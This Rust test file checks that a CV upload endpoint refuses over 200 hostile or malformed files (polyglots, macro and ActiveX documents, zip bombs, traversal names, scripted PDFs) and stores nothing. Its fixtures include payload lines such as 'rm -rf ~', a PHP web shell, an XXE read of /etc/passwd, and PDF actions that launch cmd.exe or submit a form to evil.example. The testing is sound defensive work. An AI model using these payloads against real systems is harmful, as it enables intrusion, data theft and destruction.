//! Files that somebody may send in place of a CV: each is refused with a text that helps, and nothing of it is stored.

use std::fmt::Write as _;

use crate::support::cv::{
    DESCRIPTOR, Part, document, docx, docx_of, docx_with, fields, relations, send, zip, zip_with,
};
use crate::support::desk::Desk;
use crate::support::media::{packed_pdf, pdf};
use crate::support::{TestDb, apply, sqlite_test};

/// Beginnings of other files, with which a CV may begin, too.
const STARTS: [(&str, &[u8]); 18] = [
    ("space", b" "),
    ("line", b"\n"),
    ("zero", b"\0"),
    ("mark", b"\xef\xbb\xbf"),
    ("gif", b"GIF89a\x01\x00\x01\x00"),
    ("jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\0"),
    ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ("webp", b"RIFF\x24\0\0\0WEBPVP8 "),
    ("bmp", b"BM\x36\0\0\0"),
    ("tiff", b"II*\0\x08\0\0\0"),
    ("exe", b"MZ\x90\0\x03\0\0\0"),
    ("elf", b"\x7fELF\x02\x01\x01"),
    ("html", b"<!doctype html><script>alert(1)</script>"),
    ("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"),
    ("shell", b"#!/bin/sh\nrm -rf ~\n"),
    ("postscript", b"%!PS-Adobe-3.0\n"),
    ("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0"),
    ("gzip", b"\x1f\x8b\x08\0\0\0\0\0"),
];

/// Other kinds of files, whole or as good as that.
const OTHERS: [(&str, &[u8]); 24] = [
    ("empty", b""),
    ("byte", b"P"),
    ("text", b"Curriculum vitae: electrician, three years."),
    ("rtf", b"{\\rtf1\\ansi Curriculum vitae}"),
    ("doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1WordDocument"),
    ("encrypted docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0"),
    ("html", b"<html><body>CV</body></html>"),
    ("javascript", b"require('child_process').exec('id')"),
    ("php", b"<?php system($_GET['c']); ?>"),
    ("xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    ("word 2003 xml", b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument/>"),
    ("mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"),
    ("rar", b"Rar!\x1a\x07\x01\0"),
    ("7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
    ("xz", b"\xfd7zXZ\0"),
    ("bzip2", b"BZh91AY&SY"),
    ("class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    ("link", b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"),
    ("heic", b"\0\0\0\x18ftypheic\0\0\0\0"),
    ("avif", b"\0\0\0\x1cftypavif\0\0\0\0"),
    ("font", b"\0\x01\0\0\0\x0d"),
    ("sqlite", b"SQLite format 3\0"),
    ("utf-16", b"\xff\xfe%\0P\0D\0F\0-\0"),
    ("small letters", b"%pdf-1.7\n%%EOF"),
];

/// A file, and words of the text with which it is refused.
type Hostile = (String, Vec<u8>, &'static str);

const NOT_A_CV: &str = "Send your CV as a PDF, or as a Word document (.docx).";
const MORE_THAN_PDF: &str = "This file is not only a PDF";
const MORE_THAN_WORD: &str = "This file is not only a Word document";
const NOT_WORD: &str = "no Word document without macros (.docx)";
const ACTIVE_PDF: &str = "This PDF holds scripts, forms or other files.";
const ACTIVE_WORD: &str = "This document holds macros or other files.";
const ELSEWHERE: &str = "loads a part of itself from another place";
const TOO_LARGE: &str = "unpacks to more than is accepted";
const PASSWORD: &str = "needs a password";
const CUT_PDF: &str = "The end of this PDF is missing";
const DAMAGED_PDF: &str = "This PDF is damaged or not complete";
const DAMAGED_WORD: &str = "This Word document is damaged or not complete";
const TOO_COSTLY: &str = "This file is damaged, or takes more memory or time to read than it may.";
const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn other_kinds() -> Vec<Hostile> {
    let alone = OTHERS.iter().map(|(name, bytes)| ((*name).to_owned(), bytes.to_vec(), NOT_A_CV));
    let starts = STARTS.iter().map(|(name, bytes)| (format!("{name} alone"), bytes.to_vec(), NOT_A_CV));
    alone.chain(starts).collect()
}

/// Two files in one.
fn polyglots() -> Vec<Hostile> {
    let mut all = Vec::new();
    for (name, start) in STARTS {
        all.push((format!("{name} before a PDF"), [start, &pdf(1)].concat(), NOT_A_CV));
        all.push((format!("{name} before a document"), [start, &docx("x")].concat(), NOT_A_CV));
        if !start.iter().all(|byte| byte.is_ascii_whitespace() || *byte == 0) {
            all.push((format!("{name} behind a PDF"), [&pdf(1), start].concat(), MORE_THAN_PDF));
        }
        all.push((format!("{name} behind a document"), [&docx("x"), start].concat(), MORE_THAN_WORD));
        let inside = zip_with(&document("x"), start, b"");
        all.push((format!("{name} before the directory"), inside, MORE_THAN_WORD));
    }
    let both = [pdf(1), docx("x")].concat();
    all.push(("a document behind a PDF".to_owned(), both, MORE_THAN_PDF));
    let hidden = zip_with(&document("x"), b"", b"\n%%EOF\n");
    all.push(("a document that ends as a PDF does".to_owned(), [pdf(1), hidden].concat(), MORE_THAN_PDF));
    all.push(("a PDF behind a document".to_owned(), [docx("x"), pdf(1)].concat(), MORE_THAN_WORD));
    let comment = zip_with(&document("x"), b"", &pdf(1));
    all.push(("a PDF as the comment".to_owned(), comment, MORE_THAN_WORD));
    all.push(("two documents".to_owned(), [docx("x"), docx("y")].concat(), MORE_THAN_WORD));
    all.push(("a header before a PDF".to_owned(), [b"PK\x03\x04", &pdf(1)[..]].concat(), DAMAGED_WORD));
    all
}

fn other_archives() -> Vec<Hostile> {
    let office = "application/vnd.openxmlformats-officedocument";
    let mut all: Vec<Hostile> = [
        ("a spreadsheet", format!("{office}.spreadsheetml.sheet.main+xml")),
        ("slides", format!("{office}.presentationml.presentation.main+xml")),
        ("a template", format!("{office}.wordprocessingml.template.main+xml")),
        ("a drawing", "application/vnd.ms-visio.drawing.main+xml".to_owned()),
    ]
    .into_iter()
    .map(|(name, main)| (name.to_owned(), docx_of(Some(&main), ""), NOT_WORD))
    .collect();
    for (name, main) in [
        ("macros", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("macros in a template", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        ("a spreadsheet with macros", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ] {
        all.push((name.to_owned(), docx_of(Some(main), ""), ACTIVE_WORD));
    }
    let text = |name: &str, content: &str| Part::new(name, content);
    let odt =
        zip(&[text("mimetype.xml", "application/vnd.oasis.opendocument.text"), text("content.xml", "<a/>")]);
    all.push(("an open document".to_owned(), odt, NOT_WORD));
    all.push(("an archive of texts".to_owned(), zip(&[text("cv.xml", "<cv/>")]), NOT_WORD));
    all.push(("an archive with a PDF".to_owned(), zip(&[Part::new("cv.pdf", pdf(1))]), ACTIVE_WORD));
    all.push((
        "a Java archive".to_owned(),
        zip(&[text("META-INF/MANIFEST.MF", "Main-Class: A")]),
        ACTIVE_WORD,
    ));
    all.push(("an empty archive".to_owned(), zip(&[]), NOT_A_CV));
    for missing in 0..3 {
        let mut parts = document("x");
        let part = parts.remove(missing);
        all.push((format!("without {}", part.name), zip(&parts), NOT_WORD));
    }
    all
}

/// Programs and other files within a document, and parts of it that are somewhere else.
fn active_documents() -> Vec<Hostile> {
    let mut all: Vec<Hostile> = [
        "word/vbaProject.bin",
        "word/VbaProject.BIN",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/activeX/activeX1.bin",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/sheet.xlsx",
        "word/embeddings/cv.xml",
        "word/media/image1.exe",
        "word/media/image1.png.js",
        "word/media/image1.html",
        "word/media/run.bat",
        "word/media/run.ps1",
        "word/media/run.vbs",
        "word/media/run.hta",
        "word/media/run.lnk",
        "word/media/run.jar",
        "word/media/cv.pdf",
        "word/media/inner.docx",
        "word/media/inner.zip",
        "word/settings.bin",
        "autorun.inf",
        "run",
    ]
    .into_iter()
    .map(|name| (name.to_owned(), docx_with(Part::new(name, "x")), ACTIVE_WORD))
    .collect();
    for (name, more) in [
        ("vba by type", "<Default Extension=\"xml2\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"),
        (
            "activeX by type",
            "<Override PartName=\"/a.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>",
        ),
        (
            "ole by type",
            "<Default Extension=\"b\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>",
        ),
    ] {
        all.push((name.to_owned(), docx_of(None, more), ACTIVE_WORD));
    }
    let from = |relation: String| docx_with(relations("word/_rels/document.xml.rels", &relation));
    for kind in ["attachedTemplate", "oleObject", "image", "frame", "subDocument"] {
        let relation = format!(
            "<Relationship Id=\"a\" Type=\"{RELATION}/{kind}\" Target=\"https://evil.example/a\" TargetMode=\"External\"/>"
        );
        all.push((format!("{kind} elsewhere"), from(relation), ELSEWHERE));
    }
    let claims_to_be_a_link = format!(
        "<Relationship Id='a type=\"{RELATION}/hyperlink\"' Type=\"{RELATION}/attachedTemplate\" Target=\"//evil\" TargetMode='External'/>"
    );
    all.push(("a template that claims to be a link".to_owned(), from(claims_to_be_a_link), ELSEWHERE));
    let spelled = format!(
        "<Relationship Id=\"a\" Type=\"{RELATION}/attachedTemplate\" Target=\"//evil\" TargetMode=\"Ext&#101;rnal\"/>"
    );
    all.push(("a template in another spelling".to_owned(), from(spelled), MORE_THAN_WORD));
    let utf16: Vec<u8> = "<Relationships/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let relations = docx_with(Part::new("word/_rels/document.xml.rels", [b"\xff\xfe", &utf16[..]].concat()));
    all.push(("relations in UTF-16".to_owned(), relations, MORE_THAN_WORD));
    all
}

fn bombs() -> Vec<Hostile> {
    let zeros = vec![b' '; 60 << 20];
    let mut all = vec![
        ("a part of 60 MB".to_owned(), docx_with(Part::new("word/a.xml", zeros.clone())), TOO_LARGE),
        (
            "a part that says it is small".to_owned(),
            docx_with(Part { size: Some(10), ..Part::new("word/a.xml", zeros) }),
            TOO_LARGE,
        ),
        (
            "a part that says it is huge".to_owned(),
            docx_with(Part { size: Some(u32::MAX - 1), ..Part::new("word/a.xml", "x") }),
            TOO_LARGE,
        ),
    ];
    let many: Vec<Part> = (0..3000).map(|number| Part::new(&format!("word/{number}.xml"), "x")).collect();
    all.push(("3000 parts".to_owned(), zip(&[document("x"), many].concat()), TOO_LARGE));
    let some: Vec<Part> =
        (0..60).map(|number| Part::new(&format!("word/{number}.xml"), vec![b' '; 1 << 20])).collect();
    all.push(("60 parts of 1 MB".to_owned(), zip(&[document("x"), some].concat()), TOO_LARGE));
    let laughs = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;'>]><a>&c;</a>";
    all.push(("entities".to_owned(), docx_with(Part::new("word/a.xml", laughs)), MORE_THAN_WORD));
    all.push((
        "entities in a drawing".to_owned(),
        docx_with(Part::new("word/a.vml", laughs)),
        MORE_THAN_WORD,
    ));
    let utf16: Vec<u8> = laughs.encode_utf16().flat_map(u16::to_be_bytes).collect();
    all.push(("entities in UTF-16".to_owned(), docx_with(Part::new("word/a.xml", utf16)), MORE_THAN_WORD));
    let deep = format!("<< /Type /Catalog /Pages 2 0 R /A {}{} >>", "[".repeat(50_000), "]".repeat(50_000));
    // It ends the process that reads it, and only that.
    all.push(("a PDF that unpacks to 300 MB".to_owned(), packed_pdf(300), TOO_COSTLY));
    all.push(("a PDF of brackets".to_owned(), pdf_with(&deep, ""), DAMAGED_PDF));
    all
}

fn cut_and_broken() -> Vec<Hostile> {
    let (whole, document_bytes) = (pdf(3), docx("A text of some length, so that there is something to cut."));
    let mut all = Vec::new();
    for part in 1..10 {
        let at = whole.len() * part / 10;
        all.push((format!("{part} tenths of a PDF"), whole[..at].to_vec(), CUT_PDF));
        let at = document_bytes.len() * part / 10;
        all.push((format!("{part} tenths of a document"), document_bytes[..at].to_vec(), DAMAGED_WORD));
    }
    all.push(("a PDF without its last line".to_owned(), whole[..whole.len() - 6].to_vec(), CUT_PDF));
    let at = document_bytes.len() - 1;
    all.push(("a document without its last byte".to_owned(), document_bytes[..at].to_vec(), DAMAGED_WORD));
    all.push(("only the ends of a PDF".to_owned(), b"%PDF-1.7\n%%EOF\n".to_vec(), DAMAGED_PDF));
    let noise: Vec<u8> =
        (0..2000_u32).flat_map(|number| number.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    all.push(("noise in a PDF".to_owned(), [b"%PDF-1.7\n", &noise[..], b"\n%%EOF\n"].concat(), DAMAGED_PDF));
    let part = || Part::new("word/a.xml", "text");
    for (name, part, text) in [
        ("a wrong sum", Part { crc: Some(1), ..part() }, DAMAGED_WORD),
        ("a size that is too large", Part { size: Some(5), ..part() }, DAMAGED_WORD),
        ("a size that is too small", Part { size: Some(3), ..part() }, TOO_LARGE),
        ("bytes behind a part", Part { tail: b"MZ".to_vec(), ..part() }, MORE_THAN_WORD),
        ("an unknown method", Part { method: Some(14), ..part() }, DAMAGED_WORD),
        ("a method that was not used", Part { method: Some(0), ..part() }, DAMAGED_WORD),
        ("another name inside", Part { local_name: Some("word/b.xml".to_owned()), ..part() }, MORE_THAN_WORD),
        ("encrypted", Part { flags: 1, ..part() }, PASSWORD),
        ("strongly encrypted", Part { flags: 1 | 1 << 6, ..part() }, PASSWORD),
        ("an encrypted directory", Part { flags: 1 << 13, ..part() }, PASSWORD),
    ] {
        all.push((name.to_owned(), docx_with(part), text));
    }
    let mut descriptor = docx_with(Part { flags: DESCRIPTOR, ..part() });
    let at = descriptor.windows(4).position(|bytes| bytes == b"PK\x07\x08").unwrap();
    descriptor[at + 5] ^= 1;
    all.push(("a wrong descriptor".to_owned(), descriptor, MORE_THAN_WORD));
    let mut counts = docx("x");
    let at = counts.len() - 12;
    counts[at] -= 1;
    all.push(("one part too few in the end".to_owned(), counts, MORE_THAN_WORD));
    let encrypted = "<< /Type /Catalog /Pages 2 0 R >>";
    let trailer = "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <0000000000000000000000000000000000000000000000000000000000000000> /U <0000000000000000000000000000000000000000000000000000000000000000> >> /ID [<00><00>]";
    all.push(("a PDF with a password".to_owned(), pdf_with(encrypted, trailer), PASSWORD));
    all
}

fn names_that_lead_elsewhere() -> Vec<Hostile> {
    let mut all: Vec<Hostile> = [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/evil.xml",
        "C:/evil.xml",
        "word\\evil.xml",
        "..\\evil.xml",
        "word//evil.xml",
        "./evil.xml",
        "word/./evil.xml",
        "word/evil\0.xml",
        "word/evil\n.xml",
        "word/evil.xml:stream.xml",
        "",
        "word/document.xml",
        "WORD/Document.xml",
        "[CONTENT_TYPES].xml",
    ]
    .into_iter()
    .map(|name| (format!("a part {name:?}"), docx_with(Part::new(name, "<a/>")), MORE_THAN_WORD))
    .collect();
    let mut parts = document("x");
    parts.push(Part::new("evil.xml", "x"));
    let mut bytes = zip(&parts);
    for at in (0..bytes.len() - 8).filter(|at| bytes[*at..].starts_with(b"evil.xml")).collect::<Vec<_>>() {
        bytes[at] = 0xff;
    }
    all.push(("a name that is no text".to_owned(), bytes, MORE_THAN_WORD));
    all
}

/// A PDF of one page with this catalogue and this in its trailer.
fn pdf_with(catalogue: &str, trailer: &str) -> Vec<u8> {
    let objects = [
        catalogue,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ];
    let (mut text, mut places) = ("%PDF-1.7\n".to_owned(), String::new());
    for (number, object) in (1..).zip(objects) {
        writeln!(places, "{:010} 00000 n ", text.len()).unwrap();
        write!(text, "{number} 0 obj\n{object}\nendobj\n").unwrap();
    }
    let start = text.len();
    write!(text, "xref\n0 4\n0000000000 65535 f \n{places}trailer\n<< /Size 4 /Root 1 0 R {trailer} >>\n")
        .unwrap();
    write!(text, "startxref\n{start}\n%%EOF\n").unwrap();
    text.into_bytes()
}

fn active_pdfs() -> Vec<Hostile> {
    [
        ("a script", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("a script in another spelling", "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
        (
            "a script among the names",
            "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (a) >>] >> >>",
        ),
        ("a script in a list", "/A [[<< /B [<< /S /JavaScript /JS (a) >>] >>]]"),
        ("a script at an event", "/AA << /WC << /S /JavaScript /JS (a) >> >>"),
        ("a program", "/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("a form that sends itself", "/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
        ("data from elsewhere", "/OpenAction << /S /ImportData /F (a.fdf) >>"),
        ("other files", "/Names << /EmbeddedFiles << /Names [] >> >>"),
        ("an attached file", "/AF [<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>]"),
        ("a form in XML", "/AcroForm << /XFA [] /Fields [] >>"),
        ("a film", "/A << /Subtype /RichMedia >>"),
        ("a model", "/A << /Subtype /3D >>"),
    ]
    .into_iter()
    .map(|(name, entry)| {
        (name.to_owned(), pdf_with(&format!("<< /Type /Catalog /Pages 2 0 R {entry} >>"), ""), ACTIVE_PDF)
    })
    .collect()
}

#[apply(sqlite_test)]
async fn hostile_files_are_refused_with_a_remedy_and_leave_nothing(db: TestDb) {
    let desk = Desk::with_environment(&db, &[("RATE_LIMITS", "off")]).await;
    let all: Vec<Hostile> = [
        other_kinds(),
        polyglots(),
        other_archives(),
        active_documents(),
        active_pdfs(),
        bombs(),
        cut_and_broken(),
        names_that_lead_elsewhere(),
    ]
    .concat();
    assert!(all.len() >= 200, "{}", all.len());
    let (visitor, form) = (desk.visitor(1), fields(&desk));
    let mut wrong = String::new();
    for (number, (name, content, expected)) in all.iter().enumerate() {
        // What it is called, and what the browser takes it for, counts for nothing.
        let file = ["cv.pdf", "cv.docx", "../../etc/cv.pdf", "cv.pdf.exe"][number % 4];
        let answer = send(&visitor, &form, (file, content)).await;
        let status = answer.status.as_u16();
        let text = match status {
            422 => answer.json()["fields"]["cv"][0].as_str().unwrap_or_default().to_owned(),
            _ => String::from_utf8_lossy(&answer.body).into_owned(),
        };
        if status != 422 || !text.contains(expected) || !text.ends_with('.') {
            writeln!(wrong, "{name}: {status} {text}").unwrap();
        }
    }
    assert!(wrong.is_empty(), "of {}:\n{wrong}", all.len());
    for table in ["lead", "lead_cv", "consent", "mail_outbox"] {
        assert_eq!(desk.number(&format!("SELECT COUNT(*) FROM {table}")).await, 0, "{table}");
    }
    let left = std::fs::read_dir(desk.test.app.config.data_dir.join("cvs")).unwrap().count();
    assert_eq!(left, 0, "no file");
}

#[apply(sqlite_test)]
async fn files_as_programs_write_them_are_taken(db: TestDb) {
    let desk = Desk::with_environment(&db, &[("RATE_LIMITS", "off")]).await;
    let with = |change: &dyn Fn(&mut Part)| {
        let mut parts = document("Electrician");
        parts.iter_mut().for_each(change);
        zip(&parts)
    };
    let link = format!(
        "<Relationship Id=\"a\" Type=\"{RELATION}/hyperlink\" Target=\"https://asha.example/external\" TargetMode=\"External\"/>\
         <Relationship Id=\"b\" Type=\"{RELATION}/image\" Target=\"media/image1.png\"/>"
    );
    let good = [
        ("a PDF", pdf(1)),
        ("a PDF of twelve pages", pdf(12)),
        ("a PDF with lines at its end", [&pdf(1)[..], b"\r\n\r\n"].concat()),
        (
            "a PDF that opens at a place",
            pdf_with("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", ""),
        ),
        ("a document", docx("Electrician")),
        ("a document that is not packed", with(&|part| part.stored = true)),
        ("a document that was written in one go", with(&|part| part.flags = DESCRIPTOR)),
        ("a document with a link", docx_with(relations("word/_rels/document.xml.rels", &link))),
        ("a document with a picture", docx_with(Part::new("word/media/image1.PNG", "x"))),
        ("a document with a font", docx_with(Part::new("word/fonts/font1.odttf", "x"))),
        (
            "a document with settings of a printer",
            docx_with(Part::new("word/printerSettings/printerSettings1.bin", "x")),
        ),
        ("a document with a folder", docx_with(Part::new("word/media/", ""))),
    ];
    for (number, (name, content)) in good.iter().enumerate() {
        let mut form = fields(&desk);
        for (field, value) in &mut form {
            if field == "email" {
                *value = format!("asha{number}@example.in");
            }
        }
        let answer = send(&desk.visitor(1), &form, ("cv", content)).await;
        assert_eq!(answer.status, 201, "{name}: {}", String::from_utf8_lossy(&answer.body));
    }
    assert_eq!(desk.number("SELECT COUNT(*) FROM lead_cv").await, i64::try_from(good.len()).unwrap());
}
